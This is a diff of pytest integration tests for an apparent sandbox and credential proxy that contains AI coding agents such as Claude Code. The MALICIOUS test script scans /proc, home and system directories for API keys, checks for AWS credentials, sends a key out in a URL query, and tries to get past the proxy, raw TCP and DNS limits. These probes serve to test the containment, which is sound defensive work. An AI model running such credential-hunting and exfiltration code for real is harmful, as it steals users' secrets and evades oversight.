@@ -7,15 +7,25 @@ from __future__ import annotations
 
 import json
 import os
+import secrets
+import ssl
 import subprocess
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
 from pathlib import Path
+from typing import Any
 
 import docker
+import httpx
 import pytest
 from _util import PROBE, bosun_cmd, env_for
 from conftest import Sites
+from fixtures.tls import issue as tls_issue
 
+from bosun.audit.log import AuditLog, Record
 from bosun.home import Home
+from bosun.images.base import BASE_PYTHON
 
 DEVELOPER = 1000  # the workspace belongs to a developer, as it would on their machine
 
@@ -109,3 +119,173 @@ print("dns", dns("example.com"))
     left = docker_api.containers(all=True, filters={"label": "io.bosun.sandbox"})
     assert left == []  # the session's container and its proxy are gone, and so is the network
     assert docker_api.networks(filters={"name": "bosun-sandbox-"}) == []
+
+
+# -- agent kits: the real Claude Code, a fake LLM API, and the key it must never hold --------------------
+
+LLM_FIXTURE = Path(__file__).parent.parent / "fixtures" / "llm"
+REAL_KEY = "sk-ant-api03-" + secrets.token_hex(24)  # what `bosun secret set anthropic-api-key` was given
+LLM_PORT = 8443
+
+
+@dataclass
+class FakeLlm:
+    url: str
+    ca: Path
+
+    def recorded(self) -> list[dict[str, Any]]:
+        context = ssl.create_default_context(cafile=self.ca)
+        return list(httpx.get(f"{self.url}/_recorded", verify=context, timeout=10).json())
+
+
+@pytest.fixture(scope="module")
+def fake_llm(tmp_path_factory: pytest.TempPathFactory, docker_client: docker.DockerClient) -> Iterator[FakeLlm]:
+    """Our fake Anthropic API in a hardened container on the engine's bridge, over https with a private CA
+    (its certificate names the address Docker gave it, so it is written once the container runs)."""
+    tls = tmp_path_factory.mktemp("llm-tls")
+    tls.chmod(0o755)
+    c = docker_client.containers.run(
+        BASE_PYTHON, ["python3", "/fixture/server.py", str(LLM_PORT), "/tls"], detach=True,
+        name=f"bosun-test-llm-{secrets.token_hex(3)}", user="10001:10001", cap_drop=["ALL"], read_only=True,
+        volumes={str(LLM_FIXTURE): {"bind": "/fixture", "mode": "ro"}, str(tls): {"bind": "/tls", "mode": "ro"}},
+    )  # fmt: skip
+    try:
+        c.reload()
+        address = c.attrs["NetworkSettings"]["IPAddress"]
+        ca = tls_issue(tls, address)[0]
+        llm = FakeLlm(f"https://{address}:{LLM_PORT}", ca)
+        deadline = time.monotonic() + 60
+        while True:
+            try:
+                llm.recorded()
+                break
+            except httpx.HTTPError:
+                if time.monotonic() > deadline:
+                    raise RuntimeError(f"the fake LLM API did not answer: {c.logs().decode()[-2000:]}") from None
+                time.sleep(0.3)
+        yield llm
+    finally:
+        c.remove(force=True)
+
+
+@pytest.fixture
+def claude_home(home: Home) -> Home:
+    run = subprocess.run(bosun_cmd("secret", "set", "anthropic-api-key"), input=REAL_KEY, env=env_for(home),
+                         capture_output=True, text=True)  # fmt: skip
+    assert run.returncode == 0, run.stderr
+    return home
+
+
+def _claude(home: Home, workspace: Path, llm: FakeLlm, script: str, *options: str) -> subprocess.CompletedProcess[str]:
+    return _sandbox(home, workspace, script, "--agent", "claude", "--api-url", llm.url, "--api-ca", str(llm.ca),
+                    *options)  # fmt: skip
+
+
+def _audit(home: Home, after: int = 0) -> list[Record]:
+    log = AuditLog(home.audit_db)
+    try:
+        return log.records(after=after)
+    finally:
+        log.close()
+
+
+def test_claude_code_answers_through_bosun_with_governed_tools_and_never_holds_the_key(
+    claude_home: Home, workspace: Path, fake_llm: FakeLlm
+) -> None:
+    """The real Claude Code (its pinned npm package) in a sandbox: its API requests reach the fake API with the
+    real key, put on by the proxy; its MCP tools are the gateway's, called as the agent `sandbox`; all audited."""
+    before = len(fake_llm.recorded())
+    run = _claude(claude_home, workspace, fake_llm, 'claude -p --dangerously-skip-permissions "what time is it?"')
+    subprocess.run(bosun_cmd("sandbox", "rm", str(workspace)), env=env_for(claude_home), capture_output=True)
+    assert run.returncode == 0, run.stdout + run.stderr
+    # The fake model asked for Bosun's time tool; the answer Claude Code printed quotes what the gateway returned.
+    assert "Hello from the fake model behind Bosun." in run.stdout
+    assert "The gateway's tool said:" in run.stdout and "UTC" in run.stdout
+
+    requests = fake_llm.recorded()[before:]
+    assert requests and all(r["x-api-key"] == REAL_KEY for r in requests)  # the real key, on every request
+    assert all("sk-bosun-sentinel" not in json.dumps(r) for r in requests)  # and never the sentinel
+    offered = {t for r in requests for t in r["tools"]}
+    assert "mcp__bosun__time__get_current_time" in offered  # the gateway's tools, under the "bosun" server
+
+    records = _audit(claude_home)
+    kinds = [r.kind for r in records]
+    assert kinds[0] == "sandbox/start" and kinds[-1] == "sandbox/stop"
+    assert records[-1].detail["exit_code"] == 0
+    credential = [r for r in records if r.kind == "sandbox/credential"]
+    assert len(credential) == len(requests) and all(r.detail["injected"] for r in credential)
+    [call] = [r for r in records if r.kind == "tools/call"]
+    assert (call.agent, call.server, call.tool, call.outcome) == ("sandbox", "time", "get_current_time", "ok")
+    # The key is in the secret store and the proxy's memory only: not in the audit, nor in any log.
+    assert REAL_KEY.encode() not in claude_home.audit_db.read_bytes()
+    assert all(REAL_KEY not in p.read_text(errors="replace") for p in claude_home.log_dir.glob("*.log"))
+
+
+MALICIOUS = """
+import os, re, json, pathlib
+key_var = os.environ.get("ANTHROPIC_API_KEY", "")
+print("sentinel", key_var.startswith("sk-bosun-sentinel-"))
+# The real key would look like any Anthropic key: look for one everywhere this process can read.
+pattern = re.compile(rb"sk-ant-api03-[0-9a-f]{20,}")
+found = []
+places = [pathlib.Path(p) for p in ("/proc", os.environ["HOME"], "/etc", "/run", "/tmp", "/usr/local/lib", os.getcwd())]
+for place in places:
+    for path in ([place / d / f for d in os.listdir("/proc") if d.isdigit() for f in ("environ", "cmdline")]
+                 if place == pathlib.Path("/proc") else place.rglob("*")):
+        try:
+            if path.is_file() and path.stat().st_size < 50_000_000 and pattern.search(path.read_bytes()):
+                found.append(str(path))
+        except OSError:
+            pass
+print("key-found", json.dumps(found))
+print("aws", os.path.exists(os.path.expanduser("~/.aws")) or any(pathlib.Path("/").glob("*/*/.aws")))
+# The sentinel sent where the key is not bound leaves as it is (and is logged).
+print("leak", get("http://ALLOWED/?k=" + key_var))
+# The route talks to its API only, whatever Host the agent claims.
+print("route-host", get_via_route("FORBIDDEN"))
+print("forbidden", get("http://FORBIDDEN/"))
+print("around-the-proxy", get("http://FORBIDDEN/", proxy=False))
+print("raw-tcp", tcp("LLM_HOST", LLM_PORT), tcp("FORBIDDEN_HOST", FORBIDDEN_PORT))
+print("dns", dns("api.anthropic.com"))
+"""
+
+ROUTE_PROBE = """
+import http.client, urllib.parse
+def get_via_route(host):
+    base = urllib.parse.urlsplit(os.environ["ANTHROPIC_BASE_URL"])
+    conn = http.client.HTTPConnection(base.hostname, base.port, timeout=10)
+    conn.request("GET", "/_recorded", headers={"Host": host})
+    return conn.getresponse().status
+"""
+
+
+def test_a_malicious_agent_finds_only_the_sentinel_and_reaches_nothing_else(
+    claude_home: Home, workspace: Path, fake_llm: FakeLlm, sites: Sites
+) -> None:
+    llm_host, llm_port = fake_llm.url.removeprefix("https://").split(":")
+    forbidden_host, forbidden_port = sites.forbidden.split(":")
+    script = (MALICIOUS.replace("ALLOWED", sites.allowed).replace("FORBIDDEN_HOST", forbidden_host)
+              .replace("FORBIDDEN_PORT", forbidden_port).replace("FORBIDDEN", sites.forbidden)
+              .replace("LLM_HOST", llm_host).replace("LLM_PORT", llm_port))  # fmt: skip
+    (workspace / "agent.py").write_text("import os\n" + PROBE + ROUTE_PROBE + script)
+    before = len(_audit(claude_home))
+    run = _claude(claude_home, workspace, fake_llm, "python3 agent.py", "--allow-host", sites.allowed)
+    subprocess.run(bosun_cmd("sandbox", "rm", str(workspace)), env=env_for(claude_home), capture_output=True)
+    assert run.returncode == 0, run.stdout + run.stderr
+    seen = dict(line.split(" ", 1) for line in run.stdout.strip().splitlines())
+    assert seen["sentinel"] == "True"
+    assert json.loads(seen["key-found"]) == []  # not in env, /proc, files, its home or the workspace
+    assert seen["aws"] == "False"
+    assert "allowed-site" in seen["leak"]  # the request went out, with the sentinel: worth nothing
+    assert seen["route-host"] == "200"  # answered by the fake API: the route has one destination
+    assert seen["forbidden"] == "HTTP 403"
+    assert seen["around-the-proxy"].startswith("FAILED")
+    assert "CONNECTED" not in seen["raw-tcp"]
+    assert seen["dns"] == "NO-DNS"
+
+    records = _audit(claude_home)[before:]
+    [sighting] = [r for r in records if r.kind == "sandbox/sentinel"]
+    assert sighting.tool == sites.allowed.split(":")[0]
+    refused = [r for r in records if r.kind == "sandbox/egress" and r.decision == "deny"]
+    assert any(r.tool == forbidden_host for r in refused)
+    assert REAL_KEY.encode() not in claude_home.audit_db.read_bytes()
